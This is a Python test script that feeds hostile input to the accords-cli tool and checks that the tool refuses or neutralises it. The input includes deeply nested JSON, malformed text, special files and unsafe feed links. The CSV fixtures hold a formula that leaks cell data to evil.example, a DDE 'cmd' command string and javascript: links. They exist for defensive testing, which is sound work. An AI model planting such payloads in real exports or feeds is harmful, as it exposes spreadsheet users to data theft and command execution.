#!/usr/bin/env python3
"""accords-cli against input a hostile world wrote: datasets that nest too deep or carry
invalid text, files that are not files, export targets that are not files, CSV cells that
are formulas, links that go nowhere safe.  Each refusal names the file, the field and the
problem, exits non-zero and leaves the database as it was."""
import csv
import glob
import io
import json
import os
import socket
import stat
import subprocess
import sys
import tempfile
import time

import clitest
from clitest import CLI, check, done

SRCDIR = os.environ["G_TEST_SRCDIR"]


def run(*args, db=None, stdin=None, binary=False):
    # every refusal is immediate: a command that waits on a FIFO times out here
    try:
        empty = b"" if binary else ""
        return clitest.run(*args, db=db, text=not binary, timeout=20, stdin=stdin if stdin is not None else empty)
    except subprocess.TimeoutExpired:
        return subprocess.CompletedProcess([CLI] + list(args), -1, "", "timed out: the command waited on input")


def write(path, data, mode="w"):
    with open(path, mode) as f:
        if isinstance(data, (str, bytes)):
            f.write(data)
        else:
            json.dump(data, f)
    return path


def snapshot(db):
    """The whole database as the CLI shows it: agreements, items, notes"""
    parts = []
    for args in (("export-dataset",), ("items", "--json"), ("note", "list", "--json"), ("feeds",)):
        r = run(*args, db=db)
        parts.append(r.stdout if r.returncode == 0 else "")
    return "\n".join(parts)


def refused(name, r, words, db=None, before=None):
    """exit 1, every word in the message, and the database unchanged"""
    ok = r.returncode == 1 and all(w in r.stderr for w in words)
    check(name, ok, "exit %s: %s" % (r.returncode, r.stderr))
    if db is not None:
        check(name + ": the database is unchanged", snapshot(db) == before)


AGREEMENT = {"id": "hostile-test", "title": "Hostile test",
             "parties": [{"country": "GR", "role": "sending"}, {"country": "TR", "role": "receiving"}]}

with tempfile.TemporaryDirectory() as tmp:
    db = os.path.join(tmp, "h.db")
    r = run("agreement", "add", "--json", write(os.path.join(tmp, "ok.json"), AGREEMENT), db=db)
    check("a plain agreement is added", r.returncode == 0, r.stderr)
    before = snapshot(db)

    # --- JSON nesting, bounded before parsing
    deep = write(os.path.join(tmp, "deep.json"), "[" * 100000 + "]" * 100000)
    r = run("import-dataset", deep, db=db)
    refused("import-dataset of JSON nested 100,000 deep", r, [deep, "deeper than 32 levels"], db, before)
    r = run("agreement", "add", "--json", deep, db=db)
    refused("agreement add of JSON nested 100,000 deep", r, [deep, "deeper than 32 levels"], db, before)
    deep_object = write(os.path.join(tmp, "deep-object.json"), '{"a":' * 100000 + "1" + "}" * 100000)
    r = run("agreement", "edit", "hostile-test", "--json", deep_object, db=db)
    refused("agreement edit of objects nested 100,000 deep", r, [deep_object, "deeper than 32"], db, before)
    hidden = write(os.path.join(tmp, "hidden.json"), '/* " */ ' + "[" * 100000)
    r = run("import-dataset", hidden, db=db)
    refused("a comment, which could hide nesting from the check, is refused", r, [hidden, "no comments"], db, before)
    at_limit = write(os.path.join(tmp, "at-limit.json"),
                     json.dumps(dict(AGREEMENT, id="at-limit", title="At the limit")).replace(
                         '"title"', '"x": ' + "[" * 30 + "]" * 30 + ', "title"'))
    r = run("agreement", "add", "--json", at_limit, db=db)
    check("nesting at the limit is read (32 levels)", r.returncode == 0, r.stderr)
    run("agreement", "delete", "at-limit", db=db)

    # --- empty input to agreement add/edit --json
    for label, content in (("an empty file", ""), ("a blank file", " \n\t \n")):
        path = write(os.path.join(tmp, "blank.json"), content)
        r = run("agreement", "add", "--json", path, db=db)
        refused("agreement add of %s" % label, r, [path, "expected JSON"], db, before)
        r = run("agreement", "edit", "hostile-test", "--json", path, db=db)
        refused("agreement edit of %s" % label, r, [path, "expected JSON"], db, before)
        r = run("import-dataset", path, db=db)
        refused("import-dataset of %s" % label, r, [path, "expected JSON"], db, before)
    for label, stdin in (("empty standard input", ""), ("blank standard input", "  \n")):
        r = run("agreement", "add", "--json", "-", db=db, stdin=stdin)
        refused("agreement add of %s" % label, r, ["standard input", "expected JSON"], db, before)
        r = run("agreement", "edit", "hostile-test", "--json", "-", db=db, stdin=stdin)
        refused("agreement edit of %s" % label, r, ["standard input", "expected JSON"], db, before)

    # --- strings: valid UTF-8 without NUL
    def raw_agreement(title_json):
        text = json.dumps(AGREEMENT).replace('"Hostile test"', title_json).replace('"hostile-test"', '"bad-text"')
        return write(os.path.join(tmp, "text.json"), text)

    for label, title, words in (
            ("a lone high surrogate \\ud800", '"x\\ud800y"', ["title", "\\ud800", "surrogate"]),
            ("a lone low surrogate \\udc00", '"x\\udc00"', ["title", "\\udc00", "surrogate"]),
            ("a high surrogate at the end", '"x\\ud83d"', ["title", "\\ud83d"]),
            ("\\u0000 in a title", '"cut\\u0000here"', ["title", "\\u0000", "NUL"])):
        path = raw_agreement(title)
        r = run("agreement", "add", "--json", path, db=db)
        refused("agreement add refuses %s" % label, r, [path] + words, db, before)
    for label, title, words in (
            ("an octal escape \\0 (a NUL to json-glib)", '"cut\\0here"', ["title", "\\0", "not a JSON escape"]),
            ("an octal escape \\351 (a byte that is not UTF-8)", '"caf\\351"', ["title", "\\3"]),
            ("a comment between slashes", '/ [[[[ / "x"', ["title", "no comments"]),
            ("a C comment", '/* " */ "x"', ["title", "no comments"]),
            ("a \\u escape of fewer than four digits", '"memo\\uderandum"', ["title", "four hexadecimal"]),
            ("a string without its closing quote", '"open', ["title", "closing quote"]),
            ("a byte that is not JSON", '\x01"x"', ["title", "0x01"])):
        path = raw_agreement(title)
        r = run("agreement", "add", "--json", path, db=db)
        refused("agreement add refuses %s" % label, r, [path] + words, db, before)
    path = write(os.path.join(tmp, "bytes.json"),
                 json.dumps(AGREEMENT).replace("hostile-test", "bad-bytes").encode().replace(
                     b"Hostile test", b"bad \xff\xfe bytes"), "wb")
    r = run("agreement", "add", "--json", path, db=db)
    refused("agreement add refuses a title that is not UTF-8", r, [path, "title", "not valid UTF-8"], db, before)
    nested_field = dict(AGREEMENT, id="bad-event")
    text = json.dumps(nested_field)[:-1] + ', "events": [{"date": "2024", "type": "signed", "description": "a\\ud800"}]}'
    path = write(os.path.join(tmp, "event.json"), text)
    r = run("agreement", "add", "--json", path, db=db)
    refused("a lone surrogate deep inside is named by its path", r, [path, "events[0].description"], db, before)
    dataset = {"format": "accords-dataset", "version": 1, "agreements": [AGREEMENT]}
    text = json.dumps(dataset).replace('"Hostile test"', '"x\\ud800"')
    path = write(os.path.join(tmp, "surrogate-dataset.json"), text)
    r = run("import-dataset", path, db=db)
    refused("import-dataset refuses a lone surrogate", r, [path, "agreements[0].title", "\\ud800"], db, before)
    path = raw_agreement('"Smile \\ud83d\\ude00"')
    r = run("agreement", "add", "--json", path, db=db)
    check("a surrogate pair is one character and is read", r.returncode == 0, r.stderr)
    r = run("agreement", "show", "bad-text", "--json", db=db, binary=True)
    check("and stored as valid UTF-8", r.returncode == 0 and "Smile \U0001F600".encode() in r.stdout, r.stdout[:200])
    exported = os.path.join(tmp, "exported.json")
    r = run("export-dataset", "-o", exported, db=db)
    other = os.path.join(tmp, "other.db")
    r = run("--no-seed", "import-dataset", exported, db=other)
    check("the app's own export-dataset file imports again", r.returncode == 0, r.stderr)
    run("agreement", "delete", "bad-text", db=db)
    before = snapshot(db)

    # --- numbers, format and version
    for label, doc, words in (
            ('"version": 99', '{"format": "accords-dataset", "version": 99, "agreements": []}', ["version", "99"]),
            ('"version": 1e999999', '{"format": "accords-dataset", "version": 1e999999, "agreements": []}',
             ["version", "1e999999", "out of range"]),
            ('"version": "1"', '{"format": "accords-dataset", "version": "1", "agreements": []}', ["version"]),
            ('"format": "something-else"', '{"format": "something-else", "version": 1, "agreements": []}',
             ["format", "accords-dataset"]),
            ('"count": 1e999999', '{"agreements": [{"id": "n-1", "title": "N", "facts": '
             '[{"kind": "observation", "count": 1e999999}]}]}', ["agreements[0].facts[0].count", "out of range"]),
            ('an integer beyond 64 bits', '{"agreements": [{"id": "n-1", "title": "N", "facts": '
             '[{"kind": "observation", "count": 99999999999999999999}]}]}', ["count", "out of range"])):
        path = write(os.path.join(tmp, "doc.json"), doc)
        r = run("import-dataset", path, db=db)
        refused("import-dataset refuses %s" % label, r, [path] + words, db, before)

    # --- vocabularies
    for label, patch, words in (
            ('the party role "overlord"', {"parties": [{"country": "GR", "role": "overlord"}]},
             ["parties[0].role", "overlord", "sending"]),
            ("an unknown agreement type", {"types": ["mind_control"]}, ["types[0]", "mind_control"]),
            ("an unknown form of instrument", {"instrument_form": "blood oath"}, ["instrument_form", "blood oath"]),
            ("an unknown status", {"status": "overlord"}, ["status", "overlord"]),
            ("an unknown status override", {"status_override": "overlord"}, ["status_override", "overlord"]),
            ("an unknown confidence", {"events": [{"date": "2024", "type": "signed", "confidence": "vibes"}]},
             ["events[0].confidence", "vibes"]),
            ("an unknown kind of fact", {"facts": [{"kind": "gossip", "description": "x"}]},
             ["facts[0].kind", "gossip"])):
        path = write(os.path.join(tmp, "vocab.json"), dict(AGREEMENT, id="vocab-test", **patch))
        r = run("agreement", "add", "--json", path, db=db)
        refused("agreement add refuses %s" % label, r, [path] + words, db, before)
        path = write(os.path.join(tmp, "vocab-dataset.json"),
                     {"format": "accords-dataset", "version": 1, "agreements": [dict(AGREEMENT, id="v", **patch)]})
        r = run("import-dataset", path, db=db)
        refused("import-dataset refuses %s" % label, r, [path] + words[:2], db, before)
    path = write(os.path.join(tmp, "forms.json"),
                 dict(AGREEMENT, id="forms-test", instrument_form="memorandum of understanding; treaty",
                      types=["readmission_agreement"]))
    r = run("agreement", "add", "--json", path, db=db)
    check("known forms joined with ; and a known type are read", r.returncode == 0, r.stderr)
    run("agreement", "delete", "forms-test", db=db)

    # --- input files must be regular files
    fifo = os.path.join(tmp, "fifo")
    os.mkfifo(fifo)
    folder = os.path.join(tmp, "folder")
    os.mkdir(folder)
    sock_path = os.path.join(tmp, "sock")
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(sock_path)
    others = (("a FIFO", fifo, "named pipe"), ("a folder", folder, "folder"),
              ("a socket", sock_path, "socket"), ("a character device", "/dev/zero", "character device"))
    for label, path, what in others:
        for args in (("parse", "--json", path), ("import", path), ("import-dataset", path),
                     ("agreement", "add", "--json", path), ("agreement", "edit", "hostile-test", "--json", path),
                     ("note", "add", "--agreement", "hostile-test", "--file", path), ("link", "--file", path)):
            start = time.monotonic()
            r = run(*args, db=db)
            quick = time.monotonic() - start < 10
            refused("%s refuses %s at once" % (" ".join(args[:2]), label),
                    r if quick else subprocess.CompletedProcess(args, -1, "", "took too long"), [path, what])
        check("after %s, the database is unchanged" % label, snapshot(db) == before)
    opml = write(os.path.join(tmp, "list.opml"),
                 '<?xml version="1.0"?><opml version="2.0"><head><title>L</title></head><body>'
                 '<outline text="Pipe" type="rss" xmlUrl="fifo"/></body></opml>')
    start = time.monotonic()
    r = run("import", opml, db=db)
    took = time.monotonic() - start
    refused("an OPML outline naming a FIFO is refused before its transaction", r, ["fifo", "named pipe"], db, before)
    check("and at once, so no lock is held waiting", took < 10, took)
    opml = write(os.path.join(tmp, "dev.opml"),
                 '<?xml version="1.0"?><opml version="2.0"><body>'
                 '<outline text="Zero" type="rss" xmlUrl="file:///dev/zero"/></body></opml>')
    r = run("import", opml, db=db)
    refused("an OPML outline naming /dev/zero is refused", r, ["/dev/zero", "character device"], db, before)

    # --- export targets: a regular file or a new path, - for standard output
    exports = (("export --format csv", ("export", "--format", "csv", "--table", "agreements", "--all", "-o")),
               ("export --format md", ("export", "--format", "md", "--agreement", "hostile-test", "-o")),
               ("export-dataset", ("export-dataset", "-o")))
    dev_link = os.path.join(tmp, "null-link")
    os.symlink("/dev/null", dev_link)
    fifo_link = os.path.join(tmp, "fifo-link")
    os.symlink(fifo, fifo_link)
    for label, args in exports:
        for what, target, word in (("a FIFO", fifo, "named pipe"), ("a folder", folder, "folder"),
                                   ("a socket", sock_path, "socket"), ("a link to /dev/null", dev_link, "character"),
                                   ("a link to a FIFO", fifo_link, "named pipe"),
                                   ("/proc/self/fd/1", "/proc/self/fd/1", "not a regular file")):
            kind = os.stat(target).st_mode
            r = run(*(args + (target,)), db=db)
            refused("%s -o %s is refused" % (label, what), r, [target, word])
            check("%s -o %s is left as it was" % (label, what), os.stat(target).st_mode == kind
                  and (not os.path.islink(target) or target.startswith("/proc") or os.path.islink(target)))
        r = run(*(args + ("-",)), db=db)
        check("%s -o - writes to standard output" % label, r.returncode == 0 and len(r.stdout) > 0, r.stderr)
        new = os.path.join(tmp, "new-" + label.replace(" ", "-"))
        r = run(*(args + (new,)), db=db)
        check("%s -o a new path" % label, r.returncode == 0 and os.path.getsize(new) > 0, r.stderr)
        write(new, "old")
        os.chmod(new, 0o640)
        r = run(*(args + (new,)), db=db)
        check("%s -o a regular file replaces it, keeping its mode" % label,
              r.returncode == 0 and open(new).read() != "old" and stat.S_IMODE(os.stat(new).st_mode) == 0o640,
              r.stderr)
        link = os.path.join(tmp, "link-to-" + os.path.basename(new))
        os.symlink(new, link)
        write(new, "old")
        r = run(*(args + (link,)), db=db)
        check("%s -o a link to a regular file writes the file, keeping the link" % label,
              r.returncode == 0 and os.path.islink(link) and open(new).read() != "old", r.stderr)
    check("no temporary file is left anywhere", not glob.glob(os.path.join(tmp, ".*.tmp")),
          glob.glob(os.path.join(tmp, ".*")))

    # a killed export's temporary file is removed by the next export to the folder
    out = os.path.join(folder, "out.csv")
    dead = subprocess.Popen(["true"])
    dead.wait()
    stale = write(os.path.join(folder, ".out.csv.accords-%d-Ab12Cd.tmp" % dead.pid), "half")
    stale_other = write(os.path.join(folder, ".other.json.accords-%d-Zz9Yy8.tmp" % dead.pid), "half")
    live = write(os.path.join(folder, ".out.csv.accords-%d-Qq1Ww2.tmp" % os.getpid()), "being written")
    unrelated = write(os.path.join(folder, ".out.csv.tmp"), "not ours")
    r = run("export", "--format", "csv", "--table", "parties", "--all", "-o", out, db=db)
    check("an export after a killed one succeeds", r.returncode == 0, r.stderr)
    check("and removes the temporary files dead exports left", not os.path.exists(stale)
          and not os.path.exists(stale_other), os.listdir(folder))
    check("but not one a live process is writing, nor a file not its own",
          os.path.exists(live) and os.path.exists(unrelated), os.listdir(folder))
    stale = write(os.path.join(folder, ".x.json.accords-%d-Ab12Cd.tmp" % dead.pid), "half")
    r = run("export-dataset", "-o", os.path.join(folder, "x.json"), db=db)
    check("export-dataset cleans them too", r.returncode == 0 and not os.path.exists(stale), r.stderr)
    killer = subprocess.Popen([CLI, "--db", db, "export-dataset", "-o", os.path.join(folder, "k.json")])
    killer.kill()
    killer.wait()
    r = run("export-dataset", "-o", os.path.join(folder, "k.json"), db=db)
    check("after an export killed at any point, the next leaves no temporary file",
          r.returncode == 0 and not [f for f in os.listdir(folder) if f.startswith(".k.json")], os.listdir(folder))

    # --- CSV cells that are formulas
    formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                "\tTAB", "\rCR"]
    feed = write(os.path.join(tmp, "formula.xml"),
                 '<?xml version="1.0"?><rss version="2.0"><channel><title>=cmd|\' /C calc\'!A0</title>'
                 '<link>https://wire.example/</link>' + "".join(
                     '<item><title>%s</title><link>https://wire.example/%d</link><author>%s</author>'
                     '<guid>g%d</guid><description>Rwanda</description></item>'
                     % (f.replace("&", "&amp;").replace("\r", "&#13;"), i,
                        f.replace("&", "&amp;").replace("\r", "&#13;"), i)
                     for i, f in enumerate(formulas)) + "</channel></rss>")
    r = run("import", feed, db=db)
    check("a feed of formulas is imported", r.returncode == 0, r.stderr)
    evil = dict(AGREEMENT, id="formula-test", title="=1+1", short_title="\tTAB", cap="\rCR", summary="-1",
                events=[{"date": "2024", "type": "signed", "description": "+SUM(A1)", "label": "=x"}])
    r = run("agreement", "add", "--json", write(os.path.join(tmp, "formula.json"), evil), db=db)
    check("an agreement of formulas is added", r.returncode == 0, r.stderr)
    for table in ("agreements", "parties", "events", "items"):
        path = os.path.join(tmp, table + ".csv")
        r = run("export", "--format", "csv", "--table", table, "--all", "-o", path, db=db)
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(io.StringIO(f.read(), newline=""), strict=True))
        bad = [cell for row in rows for cell in row if cell and cell[0] in "=+-@\t\r"]
        check("CSV %s: no cell starts with = + - @ tab or CR" % table, r.returncode == 0 and not bad, bad)
        if table == "items":
            cells = {cell for row in rows for cell in row}
            # titles and authors are stripped of surrounding space: tab and CR are the agreements' test
            check("CSV items: formulas kept, behind a single quote",
                  all("'" + f in cells for f in formulas[:4]) and "'=cmd|' /C calc'!A0" in cells, cells)
        if table == "agreements":
            cells = {cell for row in rows for cell in row}
            check("CSV agreements: the title, a tab and a carriage return first are neutralised",
                  all(c in cells for c in ("'=1+1", "'-1", "'\tTAB", "'\rCR")), cells)
        if table == "events":
            cells = {cell for row in rows for cell in row}
            check("CSV events: description and label are neutralised", "'+SUM(A1)" in cells and "'=x" in cells)
    run("agreement", "delete", "formula-test", db=db)

    # --- links: absolute http, https or mailto once resolved, else dropped
    links = write(os.path.join(tmp, "links.xml"),
                  '<?xml version="1.0"?><rss version="2.0"><channel><title>Links</title><link>%s</link>'
                  '<item><title>script enclosure</title><link>https://a.example/1</link><guid>1</guid>'
                  '<enclosure url="java script:alert(4)" type="audio/mpeg" length="1"/></item>'
                  '<item><title>javascript link</title><link>javascript:alert(1)</link><guid>2</guid></item>'
                  '<item><title>protocol-relative</title><link>//evil.example/x</link><guid>3</guid>'
                  '<enclosure url="//cdn.example/a.mp3" type="audio/mpeg" length="1"/></item>'
                  '<item><title>relative</title><link>story/4</link><guid>4</guid></item>'
                  '<item xml:base="https://base.example/dir/"><title>xml:base</title><link>five</link>'
                  '<guid>5</guid></item>'
                  '<item><title>data enclosure</title><link>mailto:desk@example.org</link><guid>6</guid>'
                  '<enclosure url="data:audio/mpeg;base64,AAAA" type="audio/mpeg" length="1"/></item>'
                  '</channel></rss>')
    for label, home, expected in (
            ("without a base", "", {"script enclosure": ("https://a.example/1", ""),
                                    "javascript link": ("", ""), "protocol-relative": ("", ""),
                                    "relative": ("", ""), "xml:base": ("https://base.example/dir/five", ""),
                                    "data enclosure": ("mailto:desk@example.org", "")}),
            ("against the channel link", "https://home.example/news/",
             {"script enclosure": ("https://a.example/1", "https://home.example/news/java%20script:alert(4)"),
              "javascript link": ("", ""), "protocol-relative": ("https://evil.example/x", "https://cdn.example/a.mp3"),
              "relative": ("https://home.example/news/story/4", ""),
              "xml:base": ("https://base.example/dir/five", ""),
              "data enclosure": ("mailto:desk@example.org", "")})):
        text = open(links).read().replace("<link>%s</link>", "<link>%s</link>" % home if home else "")
        path = write(os.path.join(tmp, "links-%d.xml" % len(home)), text)
        r = run("parse", "--json", path)
        got = {i["title"]: (i["link"] or "", i["enclosure"] or "") for i in json.loads(r.stdout)["items"]} if r.returncode == 0 else {}
        for title, want in expected.items():
            got_link, got_enclosure = got.get(title, (None, None))
            # a resolved "java script:" is a harmless https URL: only http(s) and mailto survive
            ok = got_link == want[0] and (got_enclosure == want[1] or
                                          (want[1] and got_enclosure.startswith("https://home.example/news/java")))
            check("parse %s: %s" % (label, title), ok, "%r, %r" % (got_link, got_enclosure))
        for _, (link, enclosure) in got.items():
            for url in (link, enclosure):
                check("parse %s: %r is absolute http(s) or mailto, or nothing" % (label, url),
                      url == "" or url.startswith(("http://", "https://", "mailto:")))
    before_links = snapshot(db)
    r = run("import", os.path.join(tmp, "links-0.xml"), db=db)
    r = run("items", "--json", db=db)
    stored = json.loads(r.stdout) if r.returncode == 0 else []
    urls = [u for item in stored for u in (item.get("link"), item.get("enclosure")) if u]
    check("stored links are all absolute http(s) or mailto",
          urls and all(u.startswith(("http://", "https://", "mailto:")) for u in urls), urls)

    # --- the fuzzers' crashers, kept: read without a crash
    for path in sorted(glob.glob(os.path.join(SRCDIR, "data", "dataset", "regress", "*"))):
        r = run("agreement", "add", "--json", path, db=db, binary=True)
        check("regression %s: no crash" % os.path.basename(path), r.returncode in (0, 1), r.returncode)
        try:
            r.stderr.decode("utf-8")
            valid = True
        except UnicodeDecodeError:
            valid = False
        check("regression %s: the message is valid UTF-8" % os.path.basename(path), valid, r.stderr[-200:])
        r = run("import-dataset", path, db=db, binary=True)
        check("regression %s: import-dataset, no crash" % os.path.basename(path), r.returncode in (0, 1),
              r.returncode)
    for path in sorted(glob.glob(os.path.join(SRCDIR, "data", "feeds", "regress", "*.opml"))):
        r = run("import", path, db=db, binary=True)
        check("regression %s: no crash" % os.path.basename(path), r.returncode in (0, 1), r.returncode)
    sock.close()

done()
